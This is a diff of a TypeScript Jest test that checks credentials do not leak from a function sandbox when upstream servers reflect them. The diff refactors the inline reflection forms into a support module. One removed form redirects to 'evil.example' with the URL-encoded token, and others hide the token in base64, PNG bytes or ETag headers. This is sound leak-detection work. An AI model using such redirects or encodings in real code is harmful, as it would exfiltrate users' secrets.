@@ -13,6 +13,7 @@ import { FunctionPool, invokeBuffered } from '../../../local/functions/pool.ts';
 import { bundleFunction } from '../../support/asset.ts';
 import { bundleOf, bundleTool } from '../../support/bundles.ts';
 import { type MiniAws, sandboxVariables, startMiniAws } from '../../support/miniAws.ts';
+import { credentialOf, formsOf, REFLECTIONS } from '../../support/reflections.ts';
 import { startUpstream, type Upstream } from '../../support/upstream.ts';
 
 jest.setTimeout(60_000);
@@ -262,46 +263,10 @@ describe('a server that misbehaves', () => {
 describe('credentials', () => {
   test('are nowhere to be found after 1,000 calls to upstreams that reflect them in every form', async () => {
     // Prepare
-    const forms: Array<
-      (header: string) => { type: string; body: string | Buffer; status?: number; headers?: Record<string, string> }
-    > = [
-      (header) => ({ type: 'application/json', body: JSON.stringify({ headers: { authorization: header } }) }),
-      (header) => ({
-        type: 'application/json',
-        body: `{"x":"${[...header].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
-      }),
-      (header) => ({ type: 'text/plain', body: `you sent ${header}, thank you` }),
-      (header) => ({ type: 'text/html', body: `<p>${header.replace(/"/g, '&quot;')}</p>` }),
-      (header) => ({ type: 'text/csv', body: `name,value\nauthorization,"${header.replace(/"/g, '""')}"\n` }),
-      (header) => ({ type: 'text/plain', body: encodeURIComponent(header) }),
-      (header) => ({ type: 'text/plain', body: Buffer.from(header.slice('Bearer '.length)).toString('base64') }),
-      (header) => ({ type: 'application/json', status: 401, body: JSON.stringify({ error: `bad token ${header}` }) }),
-      (header) => ({
-        type: 'image/png',
-        body: Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(header)]),
-      }),
-      (header) => ({ type: 'application/octet-stream', body: Buffer.from(`\0\0${header}\0`) }),
-      (header) => ({
-        type: 'text/plain',
-        status: 201,
-        body: '',
-        headers: {
-          location: `/x?token=${encodeURIComponent(header)}`,
-          etag: `"${Buffer.from(header).toString('base64url')}"`,
-        },
-      }),
-      (header) => ({
-        type: 'text/plain',
-        status: 302,
-        body: '',
-        headers: { location: `https://evil.example/?${encodeURIComponent(header)}` },
-      }),
-    ];
     let turn = 0;
     upstream.respond = (request) => {
-      const header = Buffer.from(request.all('authorization')[0] ?? '', 'latin1').toString();
-      const { type, body, status, headers } = forms[turn++ % forms.length]!(header);
-      return { status: status ?? 200, headers: { 'content-type': type, ...headers }, body };
+      const { header, secret } = credentialOf(request);
+      return REFLECTIONS[turn++ % REFLECTIONS.length]!(header, secret);
     };
     const bundle = serverOf('srv_Mirror000001');
     const request = { ...callOf(bundle), explain: true } as SandboxRequest;
@@ -312,16 +277,7 @@ describe('credentials', () => {
       answers.push(...batch.map((item) => JSON.stringify(item)));
     }
     // Assess
-    const secret = TOKEN;
-    const needles = [
-      secret,
-      JSON.stringify(secret).slice(1, -1),
-      encodeURIComponent(secret),
-      Buffer.from(secret).toString('base64'),
-      Buffer.from(secret).toString('base64url'),
-      'tok-9f86d081884c',
-      '9f86d081884c7d659a2feaa0',
-    ];
+    const needles = [...formsOf(TOKEN), 'tok-9f86d081884c', '9f86d081884c7d659a2feaa0'];
     const images = answers.flatMap((text) =>
       [...text.matchAll(/"(?:data|blob)":"([^"]+)"/g)].map(([, data]) =>
         Buffer.from(data!, 'base64').toString('latin1'),
